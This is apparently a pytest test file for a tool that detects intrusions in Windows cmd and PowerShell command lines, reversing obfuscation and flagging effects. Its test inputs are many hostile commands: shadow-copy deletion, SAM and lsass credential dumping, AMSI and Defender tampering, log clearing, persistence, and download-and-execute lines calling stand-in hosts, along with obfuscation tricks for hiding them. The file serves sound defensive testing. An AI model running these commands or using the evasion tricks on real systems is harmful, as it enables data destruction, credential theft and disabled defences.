"""Windows command lines of intrusions: disguises undone, inner commands reached, effects named."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from yett.errors import PolicyError
from yett.extract import windows
from yett.extract.budget import Budget, OverBudget
from yett.extract.facts import Command
from yett.extract.windows import cmd, profiles, values


def commands(text: str, **options: str) -> tuple[Command, ...]:
    return windows.analyse(text, "/c", budget=Budget(milliseconds=5_000), **options).commands  # type: ignore[arg-type]


def flags(text: str) -> frozenset[str]:
    return frozenset().union(*(one.flags for one in commands(text)))


def programs(text: str) -> list[str]:
    return [one.program for one in commands(text)]


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "program"),
    [
        ("cmd /c vssadmin delete shadows /all", "vssadmin"),
        ('cmd.exe /c "vssadmin delete shadows /all"', "vssadmin"),
        ("c^m^d /c vs^sad^min delete shadows", "vssadmin"),
        ("set x=vss&&call %x%admin delete shadows", "vssadmin"),
        ("%COMSPEC% /c whoami", "whoami"),
        ("powershell -NoProfile -Command 'vssadmin delete shadows /all'", "vssadmin"),
        ("pwsh -c 'Remove-Item ''C:\\a b'' -Recurse'", "remove-item"),
        ("%comspec:~-7,1%%comspec:~-6,1%%comspec:~-5,1% /c whoami", "whoami"),
        ("start /b reg save HKLM\\SAM out", "reg"),
        ('cmd /c start "" mshta http://e/x.hta', "mshta"),
        ("if exist x (vssadmin delete shadows) else (dir)", "vssadmin"),
        ("for /f %i in (x) do reg save HKLM\\SAM %i", "reg"),
        ("echo x & whoami & dir", "whoami"),
        ("@echo off\nrem nothing\nwevtutil cl Security", "wevtutil"),
        ('schtasks /create /tn a /tr "rundll32 a.dll,Start" /sc onlogon', "rundll32"),
        ('wmic process call create "powershell -c iex x"', "powershell"),
        ('sc create x binPath= "cmd /c whoami"', "whoami"),
        ('forfiles /p c:\\windows /m notepad.exe /c "cmd /c whoami"', "whoami"),
        ("psexec \\\\host -s cmd /c whoami", "whoami"),
        ('powershell -c "vssadmin delete shadows"', "vssadmin"),
        ('powershell -Command "& {whoami}"', "whoami"),
        (f"powershell -enc {encoded('vssadmin delete shadows')}", "vssadmin"),
        (f"powershell -e {encoded('whoami')}", "whoami"),
        (f"powershell -nop -w hidden -EncodedCommand {encoded('whoami')}", "whoami"),
        (f"powershell.exe -ec {encoded('iex (iwr http://e/a)')}", "iex"),
        ("iex 'whoami'", "whoami"),
        ("i`ex ('who'+'ami')", "whoami"),
        ("& ('who'+'ami')", "whoami"),
        ("& (\"{1}{0}\" -f 'ami','who')", "whoami"),
        ("$a='who'; $b='ami'; & ($a+$b)", "whoami"),
        ("& ([char]119+[char]104+'oami')", "whoami"),
        ("& (-join ('w','h','o','a','m','i'))", "whoami"),
        ("& ('wXhoXami'.Replace('X',''))", "whoami"),
        ("& ('imaohw'[5,4,3,2,1,0] -join '')", "whoami"),
        (
            "iex $([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
            + encoded("whoami")
            + "')))",
            "whoami",
        ),
        (".('who'+'ami')", "whoami"),
        ("$a='who'; $a+='ami'; .$a", "whoami"),
        ("S'et-'Date 2001-01-01", "set-date"),
        ("& \u2018whoami\u2019", "whoami"),
        ("& ('__whoami__'.Trim('_'))", "whoami"),
        ("'whoami' | iex", "whoami"),
        ("sal zz 'whoami'; zz", "whoami"),
        ("$ExecutionContext.InvokeCommand.InvokeScript('whoami')", "whoami"),
        ("[powershell]::Create().AddScript('whoami').Invoke()", "whoami"),
        ("& ( $pshome[4]+$pshome[30]+'x') 'whoami'", "whoami"),
        (". ( $env:comspec[4,15,25]-join'') 'whoami'", "whoami"),
        ("$z = {whoami}; & $z", "whoami"),
        ("if(1){whoami}", "whoami"),
        ("function zz { whoami }; zz", "whoami"),
        ("whoami `\n/all", "whoami"),
        ("git status;whoami /all", "whoami"),
        ("try{whoami}catch{}", "whoami"),
        ("do {whoami} while(0)", "whoami"),
        ("'whoami' | cmd", "whoami"),
        ("$alias:zz = 'whoami'; zz", "whoami"),
        ("Set-Item alias:zz whoami; zz", "whoami"),
        ('cmd /v:on /c "set q=whoami /all&!q!"', "whoami"),
        ('cmd /v:on /c "set x=zzwhoamizz&& !x:~2,6!"', "whoami"),
        ('cmd /v:on /c "set x=whQami&& call !x:Q=o!"', "whoami"),
        ("set x=whoami /all&& call %x%", "whoami"),
        ("for %i in (whoami) do %i /all", "whoami"),
        ('for /f "tokens=1,2" %a in ("who ami") do %a%b', "whoami"),
        ("for /f \"delims=\" %i in ('echo whoami /all') do %i", "whoami"),
        ('cmd /q/d/c "whoami /all"', "whoami"),
        ('start /b "" whoami /all', "whoami"),
        ("Get-Process | % { whoami }", "whoami"),
        ('Write-Host "$(whoami)"', "whoami"),
        ("Start-Process cmd -ArgumentList '/c whoami'", "whoami"),
        ("Start-Process -FilePath reg.exe -ArgumentList 'save HKLM\\SAM x' -Verb runas", "reg"),
        ("Invoke-Command -ComputerName h -ScriptBlock { whoami }", "whoami"),
        ("C:\\Windows\\System32\\reg.exe save HKLM\\SAM x", "reg"),
        ('"C:\\Windows\\System32\\reg.exe" save HKLM\\SAM x', "reg"),
        ("'x' | Out-File a; whoami", "whoami"),
        ("echo whoami | cmd", "whoami"),
        ("echo whoami | powershell -", "whoami"),
    ],
)
def test_the_command_behind_the_disguise_is_found(text: str, program: str) -> None:
    assert program in programs(text), commands(text)


@pytest.mark.parametrize(
    ("text", "flag"),
    [
        ("certutil -urlcache -split -f http://e/a.exe a.exe", "download"),
        ("bitsadmin /transfer j http://e/a.exe c:\\a.exe", "download"),
        ("rundll32 comsvcs.dll, MiniDump 624 c:\\l.dmp full", "memory_dump"),
        ('rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "inline_code"),
        ("regsvr32 /s /n /u /i:http://e/x.sct scrobj.dll", "proxy_execution"),
        ('mshta vbscript:Execute("x")', "proxy_execution"),
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d c:\\a.exe", "persistence"),
        (
            "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run a c:\\a.exe",
            "persistence",
        ),
        (
            'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /d 1',
            "defense_tampering",
        ),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "defense_tampering"),
        ("Add-MpPreference -ExclusionPath C:\\", "defense_tampering"),
        ("netsh advfirewall set allprofiles state off", "defense_tampering"),
        ("wevtutil cl Security", "log_tampering"),
        ("Clear-EventLog -LogName Security", "log_tampering"),
        ("vssadmin delete shadows /all /quiet", "shadow_copies"),
        ("wmic shadowcopy delete", "shadow_copies"),
        ("wbadmin delete catalog -quiet", "destructive"),
        ("bcdedit /set {default} recoveryenabled no", "boot_config"),
        ("reg save HKLM\\SAM c:\\sam", "credential_access"),
        ('ntdsutil "ac i ntds" ifm "create full c:\\x" q q', "credential_access"),
        ("procdump -ma lsass.exe l.dmp", "memory_dump"),
        ("cmdkey /list", "credential_access"),
        ("net user eve P@ss /add", "account_change"),
        ("net localgroup administrators eve /add", "account_change"),
        ("New-LocalUser eve -Password $p", "account_change"),
        ("schtasks /create /tn a /tr c:\\a.exe /sc onlogon", "scheduled_task"),
        ("sc create a binpath= c:\\a.exe", "service_create"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://e/a.ps1')", "download"),
        ("[Reflection.Assembly]::Load($b)", "reflection"),
        (
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
            "defense_tampering",
        ),
        ("[Diagnostics.Process]::Start('calc')", "proxy_execution"),
        ("$x = New-Object -ComObject WScript.Shell; $x.Run('calc')", "proxy_execution"),
        ("New-Object System.Net.Sockets.TcpListener(4444)", "raw_socket"),
        ("Add-Type -MemberDefinition '[DllImport(\"kernel32\")] VirtualAlloc' -Name x", "native_code"),
        ("Set-ExecutionPolicy Bypass -Force", "policy_bypass"),
        ("powershell -ep bypass -w hidden -c x", "policy_bypass"),
        ("powershell -version 2 -c x", "downgrade"),
        ("type secret.txt > notes.txt:hidden.txt", "alternate_stream"),
        (
            'copy a.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"',
            "startup_folder",
        ),
        ("copy C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\utilman.exe", "accessibility_hijack"),
        ("net use \\\\h\\C$ /user:a b", "network_logon"),
        ("psexec \\\\h cmd", "remote_execution"),
        ("fodhelper.exe", "uac_bypass"),
        ("Register-WmiEvent -Query x -Action {calc}", "wmi_subscription"),
        ("netsh interface portproxy add v4tov4 listenport=1 connectport=2", "port_forward"),
        ("(Get-Item a.txt).CreationTime = '01/01/2001'", "timestomp"),
        ("echo ransom > README_NOW.txt", "ransom_note"),
        ("cipher /w:C", "destructive"),
        ("format D: /q", "destructive"),
    ],
)
def test_what_it_does_is_named(text: str, flag: str) -> None:
    assert flag in flags(text), (programs(text), sorted(flags(text)))


def test_the_command_that_a_loop_goes_through_is_run() -> None:
    assert programs("for /f %a in ('whoami /priv ^| findstr Enab') do nslookup %a 10.0.0.1") == [
        "whoami",
        "findstr",
        "nslookup",
    ]


def test_the_keys_of_a_table_are_no_commands() -> None:
    line = "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; 'a b' = 1; StartTime=(Get-Date).AddDays(-1)}"
    assert programs(line) == ["get-winevent", "get-date"]


def test_a_quoted_program_is_one_where_the_line_hands_on_powershell() -> None:
    line = r'"C:\Windows\System32\powershell.exe" -exec bypass "$x.a.execute | IEX"'
    assert "policy_bypass" in flags(line)
    assert "iex" in programs(line)


@pytest.mark.parametrize(
    ("text", "flag"),
    [
        (r"type evil.exe > notes.txt:evil.exe", "alternate_stream"),
        (r"wscript c:\docs\a.doc:run.vbs", "alternate_stream"),
        ("pubprn.vbs 127.0.0.1 script:https://x.example/a.sct", "proxy_execution"),
        ("frobnicate.exe /s calc.exe", "runs_program"),
        ("SharpHound.exe -c All", "attack_tool"),
        (r'reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d C:\a.scr', "persistence"),
        (r'[IO.Directory]::GetFiles("\\.\pipe\")', "security_discovery"),
        (r"C:\Windows\System32\Some\GfxWrapper.exe http://x.example/a C:\temp\a.exe", "download"),
        (r".\linPEAS.sh", "attack_tool"),
    ],
)
def test_what_any_program_may_be_told_is_named(text: str, flag: str) -> None:
    assert flag in flags(text)


@pytest.mark.parametrize(
    "text",
    [
        "scp app.zip host.example.com:backup",
        "findstr x main.txt:12",
        "taskkill /im notepad.exe",
        "start powershell.exe",
    ],
)
def test_what_only_resembles_it_is_not(text: str) -> None:
    assert not flags(text) & {"alternate_stream", "runs_program"}


def test_what_can_not_be_known_is_said_to_be_opaque() -> None:
    dynamic = commands("& $unknown arg")[0]
    assert dynamic.opaque == ("dynamic_program",)
    assert "dynamic_program" in dynamic.flags
    assert windows.analyse("powershell -enc !!!notbase64!!!", "/c", budget=Budget()).program.opaque == (
        "encoded",
    )


def test_hosts_urls_and_paths_are_handed_on() -> None:
    found = windows.analyse("curl -o C:\\temp\\a.exe http://evil.example/a.exe", "/c", budget=Budget())
    assert found.commands[0].hosts == ("evil.example",)
    assert [one.text for one in found.nested if one.kind == "url"] == ["http://evil.example/a.exe"]
    assert commands("del C:\\work\\a.txt")[0].deletes == ("C:\\work\\a.txt",)


def test_inner_programs_of_other_languages_are_handed_on() -> None:
    found = windows.analyse("python -c \"import os; os.system('x')\"", "/c", dialect="cmd", budget=Budget())
    assert [(one.kind, one.text) for one in found.nested] == [("python", "import os; os.system('x')")]
    found = windows.analyse('bash -c "rm -rf /"', "/c", dialect="cmd", budget=Budget())
    assert [(one.kind, one.text) for one in found.nested] == [("shell", "rm -rf /")]


def test_unknown_programs_say_so() -> None:
    assert commands("C:\\Tools\\frobnicate.exe --all")[0].flags == frozenset(("profile_unknown",))


def test_depth_length_and_control_characters_end_in_opaque() -> None:
    assert windows.analyse("dir " * 10_000, "/c", budget=Budget()).program.opaque == ("too_long",)
    assert windows.analyse("dir\0/s", "/c", budget=Budget()).program.opaque == ("control_char",)
    assert "too_deep" in windows.analyse("cmd /c " * 12 + "whoami", "/c", budget=Budget()).program.opaque
    assert windows.analyse(
        "(" * 500 + "Get-Item" + ")" * 500, "/c", dialect="powershell", budget=Budget()
    ).program.opaque


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("echo a b", ("echo", "a", "b")),
        ('echo "a b"', ("echo", "a b")),
        ("echo a^&b", ("echo", "a&b")),
        ("p^i^n^g host", ("ping", "host")),
        ('"C:\\a b\\c.exe" x', ("C:\\a b\\c.exe", "x")),
        ("dir>out.txt", ("dir",)),
        ("dir 2>&1", ("dir",)),
    ],
)
def test_cmd_words(line: str, words: tuple[str, ...]) -> None:
    assert cmd.lines(line)[0].words == words


def test_cmd_separators_and_redirections() -> None:
    found = cmd.lines("a & b && c | d || e > f.txt\ng")
    assert [one.words[0] for one in found] == ["a", "b", "c", "d", "e", "g"]
    assert [one.piped for one in found] == [False, False, False, True, False, False]
    assert found[4].redirects == ((">", "f.txt"),)


@pytest.mark.parametrize(
    ("text", "flag"),
    [
        (r'& "$dir\$name.exe"', "dynamic_program"),
        ("& (Get-Content C:\\x\\a.txt)", "dynamic_program"),
        ("& (Get-Command *voke-Exp*) x", "dynamic_program"),
        ("& (Get-Command -CommandType Application -Name $x)", "dynamic_program"),
        ("& (Join-Path C:\\x (irm https://x.example/name))", "dynamic_program"),
        ('& "$(irm https://x.example/name)"', "dynamic_program"),
        ("for /f %i in ('where /r . *.exe') do %i", "dynamic_program"),
        ("set /p q=<a.txt & call %q%", "dynamic_program"),
        ('cmd /v:on /c "for %i in (1,2) do set t=!t!!s:~%i,1!& call %t%"', "dynamic_program"),
        ("Invoke-Expression $code", "dynamic_code"),
        ("irm https://x.example/a | iex", "dynamic_code"),
        ("$c = irm https://x.example/a; powershell -c $c", "dynamic_code"),
        ("powershell -c (irm https://x.example/a)", "dynamic_code"),
        ("$c = irm https://x.example/a; cmd /c $c", "dynamic_code"),
        ("$e = irm https://x.example/a; Start-Process $e", "dynamic_program"),
        ('$c = irm https://x.example/a; iex "cd x; $c"', "dynamic_code"),
        ('iex "echo $(irm https://x.example/a)"', "dynamic_code"),
        ("iwr https://x.example/a.exe -OutFile a.exe; Start-Process .\\a.exe", "runs_download"),
        ("$o = 'b.zip'; curl https://x.example/b -o $o; & $o", "runs_download"),
        ("(Get-Item a.txt).LastWriteTime = '2001-01-01'", "timestomp"),
        ("[IO.File]::SetLastWriteTime('a.txt', '2001-01-01')", "timestomp"),
        (
            r"$s.CreateShortcut(\"$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk\")",
            "persistence",
        ),
        ("'whoa' + 'mi' | iex", "obfuscated"),
        ("$x = 1; w'ho'ami", "obfuscated"),
        ("net stop 'Windows Event Log'", "defense_tampering"),
        ("Get-Service WinDefend | Stop-Service", "defense_tampering"),
        ("(Get-Service WinDefend).Stop()", "defense_tampering"),
        ("Get-ChildItem C:\\Windows\\System32\\winevt\\Logs | Remove-Item", "log_tampering"),
        (
            "[Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')",
            "log_tampering",
        ),
        (
            "cd HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run; New-ItemProperty . -Name a -Value x",
            "run_key",
        ),
        (
            "[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run', $true)",
            "run_key",
        ),
        ('[IO.File]::ReadAllText("$HOME\\.ssh\\id_rsa")', "credential_access"),
        ("irm https://x.example/a | Out-File a.ps1; .\\a.ps1", "runs_download"),
        ("code tunnel --name x", "remote_access_tool"),
        ("Set-ExecutionPolicy Bypass -Scope LocalMachine -Force", "policy_bypass"),
    ],
)
def test_what_only_resembles_everyday_work_is_told_apart(text: str, flag: str) -> None:
    assert flag in flags(text)


@pytest.mark.parametrize(
    ("text", "flag"),
    [
        ("docker run --privileged -v C:\\:C:\\host x", "privileged"),
        ("git config --global core.sshCommand calc.exe", "runs_config"),
    ],
)
def test_programs_of_every_system_are_read_with_the_profiles_of_posix(text: str, flag: str) -> None:
    posix = [one for one in commands(text) if one.dialect == "argv"]
    assert [one.program for one in posix] == [text.split()[0]]
    assert flag in posix[0].flags


def test_most_of_the_atomic_tests_show_a_flag(shared: Path, neutral: frozenset[str]) -> None:
    rows = [
        json.loads(line)
        for line in (shared / "corpus" / "atomic_red_team.jsonl").read_text("utf-8").splitlines()
    ]
    rows = [row for row in rows if row["category"].startswith("shell_windows")]
    texts = [
        row["arguments"].get("command") or row["arguments"].get("cmd") or row["arguments"].get("input")
        for row in rows
    ]
    assert sum(windows.looks_like(text) for text in texts) / len(texts) > 0.98
    assert sum(bool(flags(text) - neutral) for text in texts) / len(texts) > 0.8


def test_posix_commands_do_not_look_like_windows(shared: Path) -> None:
    rows = [
        json.loads(line)
        for line in (shared / "corpus" / "tldr_commands.jsonl").read_text("utf-8").splitlines()
    ]
    taken = [
        row
        for row in rows
        if any(windows.looks_like(value) for value in row["arguments"].values() if isinstance(value, str))
    ]
    assert len(taken) / len(rows) < 0.01, taken


@given(text=st.text(alphabet=st.sampled_from(list("abc $(){}[]'\"`|&;,^%!<>@#+=.-:\\/\n0159 ")), max_size=80))
def test_nothing_makes_the_analysis_raise(text: str) -> None:
    windows.looks_like(text)
    for dialect in ("cmd", "powershell"):
        windows.analyse(text, "/c", dialect=dialect, budget=Budget(milliseconds=5_000))


def test_base64_that_is_none_decodes_to_nothing() -> None:
    assert values.decode_base64("!!!") is None
    assert values.decode_base64(encoded("héllo")) == "héllo"


@pytest.mark.parametrize(
    "entry",
    [
        {"programs": [{"names": ["x"], "color": "red"}]},
        {"programs": [{"names": ["x"], "effects": ["sing"]}]},
        {"programs": [{"names": ["x"], "rules": [{"when": "(", "flags": []}]}]},
        {"registry": [{"when": "x", "then": "y"}]},
        {"colors": []},
    ],
)
def test_a_profile_file_with_a_mistake_does_not_load(tmp_path: Path, entry: dict[str, object]) -> None:
    (tmp_path / "windows.yaml").write_text(yaml.safe_dump(entry))
    with pytest.raises(PolicyError):
        profiles.load(tmp_path)


def test_powershell_on_another_system_writes_to_its_paths() -> None:
    (command,) = commands("Set-Content -Path /etc/cron.d/update -Value x")
    assert command.writes == ("/etc/cron.d/update",)
    (command,) = commands("iwr https://files.example/opt/tool.zip -OutFile tool.zip")
    assert command.writes == ()


@pytest.mark.parametrize(
    "text",
    [
        "rem\n" * 401 + "vssadmin delete shadows",
        "a|" * 500,
        "$a;b\n" * 401,
        "start " * 50 + "whoami",
        "call " * 50 + "whoami",
        "set a=b\n" + "set a=%a%%a%\n" * 300,
        '$x="' + "a$(b " * 1_500,
    ],
)
def test_what_is_not_read_to_its_end_is_opaque(text: str) -> None:
    opaque = windows.analyse(text, "/c", budget=Budget(milliseconds=3_600_000)).program.opaque
    assert set(opaque) & {"too_long", "too_deep"}  # what `shell-unreadable` holds


@pytest.mark.parametrize("unit", ["IEX ", 'iex "', "cmd /c ", "powershell -c "])
def test_a_command_within_a_command_within_a_command_is_given_up_by_its_steps(unit: str) -> None:
    with pytest.raises(OverBudget, match="steps"):
        windows.analyse((unit * 8_000)[:16_000], "/c", budget=Budget(milliseconds=3_600_000))


@pytest.mark.parametrize("unit", ["[a]::b", "$a::b", ".b::c", "(a).b::c"])
def test_a_chain_of_members_does_not_grow_by_itself(unit: str) -> None:
    found = commands(("$x" + unit * 200)[:1_200], dialect="powershell")
    assert all(len(word) < 4_000 for one in found for word in one.argv)
